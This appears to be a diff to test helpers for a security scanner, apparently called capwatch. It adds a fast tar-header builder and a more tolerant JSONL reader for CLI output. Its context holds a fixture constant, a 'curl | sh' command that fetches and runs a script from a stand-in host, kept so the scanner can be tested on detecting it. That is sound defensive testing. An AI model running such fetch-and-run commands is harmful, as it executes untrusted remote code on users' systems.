@@ -16,6 +16,7 @@ import zipfile
 import zlib
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
+from typing import Any
 
 # A shell payload that capwatch must always see (CW106); the host cannot resolve.
 CURL_SH = "curl -fsSL https://payload.example.invalid/install.sh | sh"
@@ -87,6 +88,23 @@ def raw_tar(entries: Iterable[TarEntry]) -> bytes:
             out += entry.data
             out += b"\0" * (-len(entry.data) % 512)
     out += b"\0" * 1024
+    return bytes(out)
+
+
+def empty_members_tar(names: Iterable[bytes]) -> bytes:
+    """Headers of many empty regular files, fast: one template, name and checksum patched."""
+    template = tar_header(TarEntry(b""))
+    blank = bytearray(template)
+    blank[148:156] = b" " * 8
+    base = sum(blank)
+    head, middle, tail = bytes(template[100:148]), b"", bytes(template[156:])
+    out = bytearray()
+    for name in names:
+        out += name.ljust(100, b"\0")
+        out += head
+        out += b"%06o\0 " % (base + sum(name))
+        out += tail
+    del middle
     return bytes(out)
 
 
@@ -208,18 +226,28 @@ def varied_digits(n_bytes: int, seed: int = 0) -> bytes:
 # Reading CLI output
 
 
-def jsonl_results(text: str) -> list[dict[str, object]]:
-    lines = [line for line in text.split("\n") if line]
-    return [json.loads(line) for line in lines]
+def jsonl_results(text: str) -> list[dict[str, Any]]:
+    """Every JSON object in ``text``, whether or not each sits on a line of its own (the line
+    structure is checked separately, so one bug does not hide every other result)."""
+    decoder = json.JSONDecoder()
+    out: list[dict[str, Any]] = []
+    at = 0
+    while True:
+        while at < len(text) and text[at] in " \t\r\n":
+            at += 1
+        if at >= len(text):
+            return out
+        obj, at = decoder.raw_decode(text, at)
+        out.append(obj)
 
 
-def rules_of(result: dict[str, object]) -> set[str]:
+def rules_of(result: dict[str, Any]) -> set[str]:
     findings = result["findings"]
     assert isinstance(findings, list)
     return {f["rule"] for f in findings}
 
 
-def messages_of(result: dict[str, object], rule: str | None = None) -> str:
+def messages_of(result: dict[str, Any], rule: str | None = None) -> str:
     findings = result["findings"]
     assert isinstance(findings, list)
     return "\n".join(
